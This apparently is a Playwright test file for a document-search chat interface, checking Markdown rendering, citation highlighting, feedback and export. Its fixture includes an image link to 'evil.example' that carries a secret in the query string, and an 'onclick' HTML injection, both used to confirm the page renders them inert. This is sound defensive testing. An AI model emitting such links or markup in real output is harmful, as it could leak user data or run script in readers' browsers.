"""How an answer is drawn: Markdown, marked sentences, the three outcomes, and what can be done with an answer."""

import json
import re
from pathlib import Path
from typing import Any

from playwright.sync_api import Page, expect

from tests.conftest import Server, serve, wait_until
from tests.llm_server import LLMServer, streamed
from tests.page.conftest import ask, last_exchange, llm_settings, open_chat

QUESTION = "How many days of annual leave do employees get?"
MARKDOWN = """## What you *get* [1]

| Who | Days |
|---|--:|
| **Full-time** | 27 [1] |

- In snake_case `a*b[1]` and
  1. a first step
  2. a second one

> Ask _early_.

```
x = [1]
```
![pixel](https://evil.example/p.png?q=secret) [a form](https://evil.example/f) <b onclick="alert(1)">HTML</b>"""


def answer_with(page: Page, body: dict[str, Any]) -> None:
    """Let the server's answer be this one."""
    events = f"event: done\ndata: {json.dumps(body)}\n\n"
    page.route("**/chat", lambda route: route.fulfill(body=events, content_type="text/event-stream"))


def test_markdown_of_an_llm_is_drawn_and_loads_nothing(page: Page, tmp_path: Path, llm: LLMServer) -> None:
    """Tables, lists, italics, code and headings stand as such; images, links, tags are text; markers are buttons."""
    llm.script = [streamed(MARKDOWN)]
    with serve(tmp_path / "log", **llm_settings(llm)) as server:
        open_chat(page, server)
        ask(page, QUESTION)
        text = last_exchange(page).locator(".text")
        expect(text.locator(".marker")).to_have_count(2)
    expect(text.locator("h3 em")).to_have_text("get")
    expect(text.locator("table td strong")).to_have_text("Full-time")
    expect(text.locator("table td .marker")).to_have_count(1)
    expect(text.locator("ul > li > ol > li")).to_have_text(["a first step", "a second one"])
    expect(text.locator("ul code")).to_have_text("a*b[1]")
    expect(text.locator("blockquote em")).to_have_text("early")
    expect(text.locator("pre")).to_have_text("x = [1]")
    expect(text.locator("img, a, b")).to_have_count(0)
    expect(text).to_contain_text("pixel")
    expect(text).to_contain_text("snake_case")
    expect(text).to_contain_text('<b onclick="alert(1)">HTML</b>')


def test_answer_keeps_its_size_beside_a_source_and_runs_in_its_direction(
    page: Page, tmp_path: Path, llm: LLMServer
) -> None:
    """An Arabic list begins at the right, and a bold word is as large as the others."""
    llm.script = [streamed("**سلام** عليكم [1].\n\n- سلام\n- وداعا\n\n| أ | ب |\n|-|-|\n| a \\| b | ب |")]
    with serve(tmp_path / "log", **llm_settings(llm)) as server:
        open_chat(page, server)
        ask(page, QUESTION)
        text = last_exchange(page).locator(".text")
        text.locator(".marker").first.click()
        expect(page.locator("#source-text mark").first).to_be_visible()
    size, normal = (text.locator(name).first.evaluate("e => getComputedStyle(e).fontSize") for name in ("strong", "p"))
    assert size == normal
    for name in ("ul", "table", "p"):
        assert text.locator(name).first.evaluate("e => getComputedStyle(e).direction") == "rtl"
    expect(text.locator("td").first).to_have_text("a | b")


DRAW = """async ([name, text]) => {
  const chat = document.querySelector("script[src*='chat.js']").src;
  const { drawMarkdown } = await import(chat.replace("chat.js", "markdown.js"));
  const { markSentence } = await import(chat.replace("chat.js", "highlight.js"));
  const drawn = document.createElement("div");
  const began = performance.now();
  if (name === "draw") drawn.append(...drawMarkdown(text, String));
  else drawn.append(text), markSentence(drawn, name);
  const took = performance.now() - began;
  const depth = (element) => 1 + Math.max(0, ...[...element.children].map(depth));
  return [took, depth(drawn), drawn.querySelector(".fit")?.textContent];
}"""


def test_worst_markdown_is_drawn_soon_and_not_deep(page: Page, server: Server) -> None:
    """12,000 characters of quotations in quotations, lists in lists, emphasis in emphasis, or quotes that never end."""
    open_chat(page, server)
    for part in (">", "- ", "1. ", "**__", "`", " `", "``x", "[", "~~a"):
        text = part * (12_000 // len(part)) + "x"
        took_ms, depth, *_ = page.evaluate(DRAW, ["draw", text])
        assert took_ms < 5000, part
        assert depth <= 60, part


def test_greek_sentence_is_marked_whatever_its_sigmas(page: Page, server: Server) -> None:
    """In capitals a word's last letter is the same as within it."""
    open_chat(page, server)
    assert page.evaluate(DRAW, ["ΛΟΓΟΣ ΣΟΦΟΣ", "Ο λόγος. λογος σοφος εδώ"])[2] == "λογος σοφος"


def test_sentences_that_fit_are_marked_in_the_quotation_and_in_the_source(page: Page, server: Server) -> None:
    """`highlights` counts characters of the document; an emoji before it shifts nothing."""
    document = server.get("/documents/people/annual-leave.md").json()
    sentence = "Employees get 27 days of annual leave a year"
    at = document["text"].index(sentence)
    body = server.ask(QUESTION)
    citation = body["citations"][0] | {"start": at - 20, "end": at + 200, "highlights": [[at, at + len(sentence)]]}
    citation["excerpt"] = document["text"][at - 20 : at + 200]
    citation["url"] = f"/documents/people/annual-leave.md?start={at - 20}&end={at + 200}"
    answer = f"\U0001f511 It says: {sentence.replace('27 days', '**27 days**')}. And more [1]"
    answer_with(page, body | {"answer": answer, "answered_by": "extractive", "citations": [citation]})
    open_chat(page, server)
    ask(page, QUESTION)
    marked = "elements => elements.map((element) => element.textContent).join('')"
    expect(last_exchange(page).locator(".text .fit").first).to_be_visible()
    assert last_exchange(page).locator(".text .fit").evaluate_all(marked).rstrip(".") == sentence
    page.locator(".marker").click()
    expect(page.locator("#source-panel mark .fit").first).to_be_visible()
    assert page.locator("#source-panel mark .fit").evaluate_all(marked).rstrip(".") == sentence


def test_uncertain_quotation_says_so_above_it(page: Page, server: Server) -> None:
    """The warning is read before the words that it is about."""
    words = "This may not answer your question; it is the passage that comes nearest."
    answer_with(page, server.ask(QUESTION) | {"notice": words})
    open_chat(page, server)
    ask(page, QUESTION)
    expect(last_exchange(page).locator(".note")).to_have_text(words)
    notice, text = (last_exchange(page).locator(place).bounding_box() for place in (".note", ".text"))
    assert notice
    assert text
    assert notice["y"] + notice["height"] <= text["y"]


def test_quotation_offers_more_passages_in_a_line_each(page: Page, server: Server) -> None:
    """Up to three that are not cited: title, section, first words; a press opens them beside the answer."""
    body = server.ask(QUESTION)
    cited = {(one["document"], one["section"]) for one in body["citations"]}
    others = [one for one in body["sources"] if (one["document"], one["section"]) not in cited]
    open_chat(page, server)
    ask(page, QUESTION)
    lines = page.get_by_role("region", name="More passages").get_by_role("listitem")
    expect(lines).to_have_count(min(3, len(others)))
    expect(lines.first).to_contain_text(others[0]["title"])
    expect(lines.first).to_contain_text(others[0]["section"])
    box = lines.first.bounding_box()
    assert box
    assert box["height"] < 60
    lines.first.get_by_role("link").click()
    expect(page.locator("#source-panel mark").first).to_be_visible()


def test_section_beside_the_answer_can_be_asked_about(page: Page, server: Server) -> None:
    """What was found in the cited document, but not quoted, is offered as the next question."""
    body = server.ask(QUESTION)
    first = body["citations"][0]
    near = {"rank": 9, "chunk_id": first["document"] + "#1", "page": None, "text": "Other words.", "score": 0.1}
    near |= {"document": first["document"], "title": "Annual leave", "section": "Carrying over"}
    answer_with(page, body | {"citations": [first], "sources": [near]})
    open_chat(page, server)
    ask(page, QUESTION)
    page.get_by_role("button", name="Annual leave: Carrying over").click()
    expect(last_exchange(page).get_by_role("heading", level=2)).to_have_text("Annual leave: Carrying over")


def test_feedback_is_counted_and_logged_with_the_id_of_the_answer(page: Page, tmp_path: Path) -> None:
    """One press, no question in the log; where it is off, the page does not ask."""
    with serve(tmp_path / "log", MAX_REQUESTS="0") as server:
        open_chat(page, server)
        with page.expect_response("**/feedback") as caught:
            ask(page, QUESTION)
            page.get_by_role("button", name="Not helpful").click()
        assert caught.value.status == 204
        expect(page.get_by_role("button", name="Not helpful")).to_have_attribute("aria-pressed", "true")
        request_id = caught.value.request.post_data_json["request_id"]
        wait_until(
            lambda: f"Feedback: request_id={request_id} helpful=no" in server.log.read_text(),
            "the line of the feedback",
        )
        assert 'rag_feedback_total{verdict="not_helpful"} 1.0' in server.get("/metrics").text
    with serve(tmp_path / "off", FEEDBACK="off", MAX_REQUESTS="0") as server:
        open_chat(page, server)
        ask(page, QUESTION)
        expect(page.get_by_role("button", name="Copy").last).to_be_visible()
        expect(page.get_by_role("button", name="Helpful")).to_have_count(0)
        assert server.post("/feedback", {"request_id": "a", "helpful": True}).status_code == 403


def test_conversation_can_be_saved_as_markdown(page: Page, server: Server) -> None:
    """Each question is a heading; each answer comes with its sources."""
    open_chat(page, server)
    ask(page, QUESTION)
    expect(page.locator(".marker").first).to_be_visible()
    with page.expect_download() as caught:
        page.get_by_role("button", name="Save as Markdown").click()
    assert caught.value.suggested_filename == "conversation.md"
    saved = caught.value.path().read_text()
    assert saved.startswith(f"## {QUESTION}\n\n")
    assert "\n[1] Annual leave" in saved


def test_marker_shows_its_passage_on_hover_and_focus(page: Page, server: Server) -> None:
    """One need not open the source to see what a number rests on; Escape takes it away."""
    excerpt = server.ask(QUESTION)["citations"][0]["excerpt"]
    open_chat(page, server)
    ask(page, QUESTION)
    marker, peek = page.get_by_role("button", name=re.compile("^Source 1:")).first, page.get_by_role("tooltip")
    marker.hover()
    expect(peek).to_contain_text(" ".join(excerpt.lstrip("# ").split("\n\n")[-1].split())[:60])
    page.keyboard.press("Escape")
    expect(peek).to_be_hidden()
    page.mouse.move(0, 0)
    page.get_by_role("button", name="Copy").focus()
    page.keyboard.press("Shift+Tab")
    for _ in range(12):
        if page.evaluate("document.activeElement.className") == "marker":
            break
        page.keyboard.press("Shift+Tab")
    expect(peek).to_be_visible()
    expect(page.locator(".marker:focus")).to_have_attribute("aria-describedby", "peek")


def test_keys_lead_back_to_the_question(page: Page, server: Server) -> None:
    """`/` goes to the field, arrow up brings the last question back."""
    open_chat(page, server)
    ask(page, QUESTION)
    expect(page.locator(".marker").first).to_be_visible()
    page.locator(".marker").first.focus()
    page.keyboard.press("/")
    field = page.get_by_label("Your question")
    expect(field).to_be_focused()
    expect(field).to_have_value("")
    page.keyboard.press("ArrowUp")
    expect(field).to_have_value(QUESTION)
